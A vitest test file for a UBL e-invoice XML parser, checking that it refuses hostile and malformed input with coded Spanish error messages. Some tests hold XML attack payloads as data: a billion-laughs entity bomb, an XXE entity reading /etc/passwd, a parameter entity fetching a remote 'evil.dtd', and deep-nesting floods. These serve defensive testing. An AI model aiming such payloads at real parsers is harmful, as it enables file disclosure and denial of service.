import { describe, expect, it } from 'vitest';
import { fixtureBytes } from '../test/fixtures.js';
import { syntheticInvoice } from '../test/synthetic-documents.js';
import { UblError } from './errors.js';
import { parseUblDocument } from './parse-ubl-document.js';
import type { UblErrorCode } from './types.js';

/**
 * Input an attacker or a broken integration may send. Each one is refused
 * with its own code and a Spanish message; none is expanded or fetched.
 */

function refusal(input: string | Uint8Array): { code: UblErrorCode; message: string } {
  try {
    parseUblDocument(input);
  } catch (error) {
    if (error instanceof UblError) return { code: error.code, message: error.message };
    throw error;
  }
  throw new Error('the input was accepted');
}

const DTD_MESSAGE = 'El XML no debe contener declaraciones DOCTYPE ni entidades.';

describe('DTDs and entities', () => {
  it.each([
    [
      'a billion laughs',
      '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">' +
        Array.from(
          { length: 9 },
          (_, level) =>
            `<!ENTITY lol${level + 1} "${`&lol${level === 0 ? '' : level};`.repeat(10)}">`,
        ).join('') +
        ']><lolz>&lol9;</lolz>',
    ],
    [
      'an external entity reading /etc/passwd',
      '<?xml version="1.0"?><!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><Invoice>&xxe;</Invoice>',
    ],
    [
      'parameter entities',
      '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % remote SYSTEM "http://example.com/evil.dtd">%remote;]><r/>',
    ],
    ['a DOCTYPE without entities', '<?xml version="1.0"?><!DOCTYPE Invoice><Invoice/>'],
    ['a DOCTYPE in lower case', '<!doctype Invoice><Invoice/>'],
    ['an entity declaration outside a DOCTYPE', '<Invoice><!ENTITY x "y"></Invoice>'],
  ])('refuses %s before parsing', (_what, xml) => {
    expect(refusal(xml)).toEqual({ code: 'dtd_forbidden', message: DTD_MESSAGE });
  });

  it('refuses a DOCTYPE inside a real document', () => {
    const xml = syntheticInvoice().replace(
      '?>',
      '?><!DOCTYPE Invoice SYSTEM "http://example.com/x.dtd">',
    );
    expect(refusal(xml).code).toBe('dtd_forbidden');
  });

  it('refuses a reference to an entity nobody declared', () => {
    const xml = syntheticInvoice({ id: '<cbc:ID>&xxe;</cbc:ID>' });
    const line = xml.split('\n')[1]!;
    // Reported where the reference ends, once its name is known.
    const column = line.indexOf('&xxe;') + '&xxe'.length;
    expect(refusal(xml)).toEqual({
      code: 'malformed',
      message: `El XML no está bien formado (línea 2, columna ${column}).`,
    });
  });
});

describe('resource exhaustion', () => {
  it('refuses deep nesting', () => {
    const depth = 100_000;
    const xml = `${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}`;
    expect(refusal(xml)).toEqual({
      code: 'too_large',
      message: 'El XML es demasiado complejo: supera 256 niveles de anidamiento.',
    });
  });

  it('refuses too many elements', () => {
    const xml = `<a>${'<b/>'.repeat(300_001)}</a>`;
    expect(refusal(xml)).toEqual({
      code: 'too_large',
      message: 'El XML es demasiado complejo: supera 300000 elementos.',
    });
  });

  it('refuses an element with too many attributes', () => {
    const attributes = Array.from({ length: 300 }, (_, index) => `a${index}="x"`).join(' ');
    expect(refusal(`<a ${attributes}/>`)).toEqual({
      code: 'too_large',
      message: 'El XML es demasiado complejo: tiene demasiados atributos.',
    });
  });

  it('refuses input over 10 MiB before decoding it', () => {
    // Not XML at all: only a check made before decoding and parsing answers too_large.
    const oversized = new Uint8Array(10 * 1024 * 1024 + 1).fill(0xff);
    expect(refusal(oversized)).toEqual({
      code: 'too_large',
      message: 'El archivo supera el tamaño máximo de 10 MB.',
    });
  });

  it('refuses a string over 10 MiB once encoded', () => {
    const oversized = 'ñ'.repeat(5 * 1024 * 1024 + 1);
    expect(refusal(oversized).code).toBe('too_large');
  });

  it('accepts a document of exactly the limit', () => {
    const xml = syntheticInvoice();
    expect(parseUblDocument(xml, { maxBytes: new TextEncoder().encode(xml).length }).id).toBe(
      'F001-00000123',
    );
  });
});

describe('files that are not XML', () => {
  it.each([
    ['no bytes', new Uint8Array(0)],
    ['an empty string', ''],
    ['whitespace only', ' \r\n\t '],
    ['a byte order mark only', new Uint8Array([0xef, 0xbb, 0xbf])],
  ])('calls %s empty', (_what, input) => {
    expect(refusal(input)).toEqual({ code: 'empty', message: 'El archivo está vacío.' });
  });

  it('refuses a truncated document with where it ends', () => {
    const bytes = fixtureBytes('20606433094-01-F001-3.xml');
    const { code, message } = refusal(bytes.subarray(0, 6000));
    expect(code).toBe('malformed');
    expect(message).toMatch(/^El XML no está bien formado \(línea \d+, columna \d+\)\.$/);
  });

  it('says where text that is not XML starts', () => {
    expect(refusal('\n\n   {"xml": "PEludm9pY2U+"}').message).toBe(
      "El archivo no es un XML: debe empezar con '<' (línea 3, columna 3).",
    );
  });

  it('refuses random bytes', () => {
    // A fixed linear congruential sequence: the same "random" file on every run.
    let seed = 12345;
    const bytes = Uint8Array.from({ length: 4096 }, () => {
      seed = (seed * 1103515245 + 12345) % 2 ** 31;
      return seed >> 16;
    });
    expect(refusal(bytes).code).toBe('malformed');
  });

  it("refuses a PDF's bytes", () => {
    const pdf = new TextEncoder().encode(
      '%PDF-1.7\n%âãÏÓ\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n',
    );
    expect(refusal(pdf)).toEqual({
      code: 'malformed',
      message: "El archivo no es un XML: debe empezar con '<' (línea 1, columna 0).",
    });
  });

  it.each([
    ['with its DOCTYPE', '<!DOCTYPE html><html><body><p>Hola</p></body></html>', 'dtd_forbidden'],
    ['well-formed', '<html><body><p>Hola</p></body></html>', 'not_ubl'],
    ['as browsers write it', '<html><body>Hola<br></body></html>', 'malformed'],
  ])('refuses HTML %s', (_what, html, code) => {
    expect(refusal(html).code).toBe(code);
  });
});

describe('UBL that misses what identifies it', () => {
  it('refuses a factura without ID', () => {
    expect(refusal(syntheticInvoice({ id: '' }))).toEqual({
      code: 'missing_field',
      message: 'Falta el número del comprobante (cbc:ID).',
    });
  });

  it('refuses a factura in the wrong root namespace', () => {
    const xml = syntheticInvoice().replace('xsd:Invoice-2"', 'xsd:Invoice-1"');
    expect(refusal(xml)).toEqual({
      code: 'not_ubl',
      message: 'El documento no es una factura, boleta, nota de crédito o nota de débito UBL.',
    });
  });
});
